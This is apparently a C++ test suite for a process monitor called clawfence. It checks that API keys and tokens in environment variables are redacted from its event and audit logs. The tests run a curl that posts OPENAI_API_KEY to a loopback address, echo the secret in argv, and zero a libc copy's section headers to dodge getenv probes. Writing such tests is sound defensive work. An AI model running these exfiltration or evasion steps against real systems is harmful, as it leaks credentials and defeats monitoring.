// The adversarial suite, secrets in argv: a tool started with a secret environment variable puts
// its value on command lines (`curl -d "k=$OPENAI_API_KEY"`, `sh -c "echo $OPENAI_API_KEY"`, a
// program that was not handed the variable, a token of a well-known shape that is in no
// variable). clawfence must write the value nowhere: not in the JSON lines, the audit log or its
// own log, in monitor mode and in enforce mode, under the shipped rules; the EXEC records still
// show the command, with [REDACTED:...] where the secret was. A second case: a watched process
// already running when the agent starts, with the secret in its environment and its argv (the
// agent learns it from /proc/PID/environ). Network: loopback only (127.0.0.1:9, nothing listens).
#include <sys/stat.h>
#include <unistd.h>

#include <dirent.h>

#include <fstream>
#include <random>
#include <regex>
#include <string>
#include <vector>

#include "harness.h"

namespace clawfence::testing {
namespace {

using std::chrono::seconds;

// Random text of `n` characters from [a-zA-Z0-9], unique to this run.
std::string random_text(size_t n) {
  static const char kChars[] = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
  std::random_device rd;
  std::mt19937_64 g(rd());
  std::string s;
  for (size_t i = 0; i < n; ++i) s.push_back(kChars[g() % (sizeof(kChars) - 1)]);
  return s;
}

// Every regular file under `dir` (recursively), for scanning what an agent left.
void files_under(const std::string& dir, std::vector<std::string>& out) {
  DIR* d = opendir(dir.c_str());
  if (!d) return;
  while (dirent* e = readdir(d)) {
    const std::string name = e->d_name;
    if (name == "." || name == "..") continue;
    const std::string path = dir + "/" + name;
    struct stat st {};
    if (lstat(path.c_str(), &st) != 0) continue;
    if (S_ISDIR(st.st_mode))
      files_under(path, out);
    else if (S_ISREG(st.st_mode))
      out.push_back(path);
  }
  closedir(d);
}

class AdvSecrets : public ::testing::Test {
 protected:
  void SetUp() override {
    CF_REQUIRE_ROOT();
    bin_ = build_dir() + "/clawfence";
    dir_ = make_temp_dir("advsec");
    ASSERT_FALSE(dir_.empty());
    // a value of no well-known shape: only its fingerprint can recognise it
    canary_ = "cfcanary" + random_text(24);
    github_ = "ghp_" + random_text(36);
  }
  void TearDown() override {
    // nothing of the secrets stays behind: everything the test wrote is under dir_
    if (!dir_.empty()) remove_tree(dir_);
  }

  // The shipped rules in `mode`.
  std::string shipped_rules(const std::string& mode) {
    std::string text = read_file(repo_root() + "/rules/openclaw.yaml");
    text = std::regex_replace(text, std::regex("\nmode: monitor\n"), "\nmode: " + mode + "\n");
    const std::string path = dir_ + "/openclaw-" + mode + ".yaml";
    write_file(path, text);
    return path;
  }

  // The secret must be in none of these files; returns the ones it is in.
  std::vector<std::string> holding_a_secret(const std::vector<std::string>& files) const {
    std::vector<std::string> bad;
    for (const auto& f : files) {
      const std::string text = read_file(f);
      if (text.find(canary_) != std::string::npos) bad.push_back(f + " (the variable's value)");
      if (text.find(github_) != std::string::npos) bad.push_back(f + " (the ghp_ token)");
    }
    return bad;
  }

  // The EXEC records whose argv holds `needle` in some element.
  static std::vector<const v1::Event*> execs_with(const std::vector<v1::Event>& evs, const std::string& needle) {
    std::vector<const v1::Event*> out;
    for (const auto& e : evs) {
      if (e.kind() != v1::Event::EXEC) continue;
      for (const auto& a : e.exec().argv())
        if (a.find(needle) != std::string::npos) {
          out.push_back(&e);
          break;
        }
    }
    return out;
  }

  // What the tool does with the secret it was handed: a curl that posts it (nothing listens on
  // 127.0.0.1:9: refused, or blocked in enforce mode), a shell and echo with it in argv, a
  // program not handed the variable (env -u) with it in argv, and a GitHub token in no variable.
  std::string script() const {
    return "curl -s -m 2 -d \"k=$OPENAI_API_KEY\" http://127.0.0.1:9/ >/dev/null 2>&1; "
           "sh -c \"echo $OPENAI_API_KEY >/dev/null\"; "
           "/bin/echo \"$OPENAI_API_KEY\" >/dev/null; "
           "env -u OPENAI_API_KEY /bin/echo \"x=$OPENAI_API_KEY\" >/dev/null; "
           "/bin/echo \"token " + github_ + "\" >/dev/null; true";
  }

  // The EXEC records show each command with the secret replaced, and say so.
  void expect_redacted_execs(const std::vector<v1::Event>& evs) {
    auto curl = execs_with(evs, "k=[REDACTED:OPENAI_API_KEY]");
    ASSERT_FALSE(curl.empty()) << describe(of_kind(evs, v1::Event::EXEC), 60);
    EXPECT_TRUE(curl[0]->redacted());
    EXPECT_NE(curl[0]->exec().filename().find("curl"), std::string::npos);
    EXPECT_FALSE(execs_with(evs, "echo [REDACTED:OPENAI_API_KEY]").empty()) << "the inner shell";
    bool echo = false, not_handed = false;
    for (const auto* e : execs_with(evs, "[REDACTED:OPENAI_API_KEY]")) {
      echo |= e->exec().argv_size() == 2 && e->exec().argv(1) == "[REDACTED:OPENAI_API_KEY]";
      not_handed |= e->exec().argv_size() == 2 && e->exec().argv(1) == "x=[REDACTED:OPENAI_API_KEY]";
    }
    EXPECT_TRUE(echo) << describe(of_kind(evs, v1::Event::EXEC), 60);
    EXPECT_TRUE(not_handed) << "a program not handed the variable" << describe(of_kind(evs, v1::Event::EXEC), 60);
    EXPECT_FALSE(execs_with(evs, "token [REDACTED:github-token]").empty()) << describe(of_kind(evs, v1::Event::EXEC), 60);
    // the process's own argv in every later event of it is the redacted one too
    for (const auto& e : evs)
      if (e.process().pid() == curl[0]->process().pid() && e.kind() != v1::Event::EXEC && e.process().argv_size() > 2) {
        EXPECT_TRUE(e.process().redacted()) << e.DebugString();
      }
  }

  std::string bin_, dir_, canary_, github_;
};

// `clawfence run` of the tool under the shipped rules, in monitor and in enforce mode.
TEST_F(AdvSecrets, NoSecretValueIsWrittenByRun) {
  for (const std::string mode : {"monitor", "enforce"}) {
    SCOPED_TRACE(mode);
    const std::string events = dir_ + "/run-" + mode + ".jsonl", out = dir_ + "/run-" + mode + ".out",
                      err = dir_ + "/run-" + mode + ".err";
    Child c({bin_, "run", "-r", shipped_rules(mode), "-o", events, "--", "sh", "-c", script()}, out, err, "",
            {"OPENAI_API_KEY=" + canary_});
    ASSERT_EQ(c.wait(seconds(60)), 0) << read_file(err);
    const auto evs = read_events(events);
    expect_redacted_execs(evs);
    EXPECT_NE(read_file(err).find("redacted: "), std::string::npos) << read_file(err);
    EXPECT_EQ(holding_a_secret({events, out, err}), std::vector<std::string>{});
  }
}

// `clawfence agent` with the audit log of every event: the tool runs under the agent, and a
// watched process that was already running when the agent started has the secret in its
// environment and in its own argv (learned from /proc/PID/environ at start).
TEST_F(AdvSecrets, NoSecretValueIsWrittenByTheAgent) {
  TestCgroup cg("advsec");
  const std::string rules = dir_ + "/rules.yaml";
  write_file(rules, "version: 1\nmode: monitor\n"
                    "targets:\n  - name: advsec\n    match:\n      - comm: [cf-adv-secret]\n"
                    "env:\n  secret_names: [\"*_API_KEY\"]\n"
                    "exec:\n  - { id: adv-curl, binary: [curl], severity: warning }\n");
  const std::string sh = dir_ + "/cf-adv-secret";  // a shell under a name the rules target
  ASSERT_EQ(symlink("/bin/sh", sh.c_str()), 0);
  const std::string go = dir_ + "/go", started = dir_ + "/started";
  // already running: waits for the agent, then the tool's commands; its own argv ends with the value
  Child early({sh, "-c", "touch " + started + "; while [ ! -e " + go + " ]; do sleep 0.05; done; " + script(),
               "cf-adv-secret", canary_},
              dir_ + "/early.out", dir_ + "/early.err", cg.path(), {"OPENAI_API_KEY=" + canary_});
  ASSERT_TRUE(eventually([&] { return access(started.c_str(), F_OK) == 0; }, seconds(10)));
  const std::string events = dir_ + "/agent.jsonl", log = dir_ + "/agent.log";
  Agent agent(bin_, rules, cg.path(), events, log, {"--audit-all"});
  ASSERT_TRUE(agent.ready()) << agent.log();
  write_file(go, "");
  ASSERT_EQ(early.wait(seconds(60)), 0) << read_file(dir_ + "/early.err");
  ASSERT_EQ(agent.stop(), 0) << agent.log();

  const auto evs = read_events(events);
  expect_redacted_execs(evs);
  // the running process's argv, as the agent read it from /proc at start
  bool seeded = false;
  for (const auto& e : evs)
    if (e.process().pid() == static_cast<uint32_t>(early.pid()) && e.process().argv_size() >= 5) {
      seeded = true;
      EXPECT_EQ(e.process().argv(4), "[REDACTED:OPENAI_API_KEY]") << e.DebugString();
      EXPECT_TRUE(e.process().redacted());
    }
  EXPECT_TRUE(seeded) << describe(evs);
  // the rule saw curl run, and its evidence is the redacted argv
  bool curl_alert = false;
  for (const auto& e : of_kind(evs, v1::Event::ALERT))
    for (const auto& a : e.alert().evidence().argv())
      if (a == "k=[REDACTED:OPENAI_API_KEY]") {
        curl_alert = e.alert().rule_id() == "adv-curl";
        EXPECT_TRUE(e.redacted());
      }
  EXPECT_TRUE(curl_alert) << describe(of_kind(evs, v1::Event::ALERT));
  EXPECT_NE(agent.log().find("redacted: "), std::string::npos) << agent.log();
  std::vector<std::string> files = {events, log, dir_ + "/early.out", dir_ + "/early.err"};
  files_under(dir_ + "/audit", files);
  ASSERT_GT(files.size(), 4u) << "no audit log written";
  EXPECT_EQ(holding_a_secret(files), std::vector<std::string>{});
}

}  // namespace
}  // namespace clawfence::testing

namespace clawfence::testing {
namespace {

// Node takes getenv from libc, so libc's getenv probes see its process.env reads. A tool that
// brings its own copy of libc whose symbols cannot be read (section headers zeroed: the loader
// does not need them, the agent's symbol reader does) has no getenv probe: the agent then probes
// that process's own uv_os_getenv, for it alone. Found by an attack review of the change that
// dropped the uv_os_getenv probe where getenv is libc's.
TEST_F(AdvSecrets, AProcessEnvReadThroughALibcCopyWithoutSymbolsIsSeen) {
  const std::string node = "/usr/bin/node", libc = "/lib/x86_64-linux-gnu/libc.so.6";
  struct stat st {};
  if (stat(node.c_str(), &st) != 0) GTEST_SKIP() << "no " << node << " on this machine: skipped";
  if (stat(libc.c_str(), &st) != 0) GTEST_SKIP() << "no " << libc << " (not x86-64 Debian): skipped";
  std::string image = read_file(libc);
  ASSERT_GT(image.size(), 0x40u);
  std::fill(image.begin() + 0x28, image.begin() + 0x30, '\0');  // e_shoff
  std::fill(image.begin() + 0x3a, image.begin() + 0x40, '\0');  // e_shentsize, e_shnum, e_shstrndx
  ASSERT_EQ(mkdir((dir_ + "/l").c_str(), 0755), 0);
  write_file(dir_ + "/l/libc.so.6", image);
  chmod((dir_ + "/l/libc.so.6").c_str(), 0755);

  const std::string events = dir_ + "/libc-copy.jsonl", out = dir_ + "/libc-copy.out", err = dir_ + "/libc-copy.err";
  Child c({bin_, "run", "-r", shipped_rules("monitor"), "-o", events, "--", "env", "LD_LIBRARY_PATH=" + dir_ + "/l",
           node, "-e", "setTimeout(() => { if (process.env.OPENAI_API_KEY) console.log('read'); }, 500)"},
          out, err, "", {"OPENAI_API_KEY=" + canary_});
  ASSERT_EQ(c.wait(seconds(60)), 0) << read_file(err);
  ASSERT_NE(read_file(out).find("read"), std::string::npos) << "node did not run on the copy: " << read_file(err);
  const auto envs = of_kind(read_events(events), v1::Event::ENV);
  bool seen = false;
  for (const auto& e : envs) seen |= e.env().name() == "OPENAI_API_KEY" && e.process().comm() == "node";
  EXPECT_TRUE(seen) << describe(envs);
  EXPECT_EQ(holding_a_secret({events, out, err}), std::vector<std::string>{});
}

}  // namespace
}  // namespace clawfence::testing
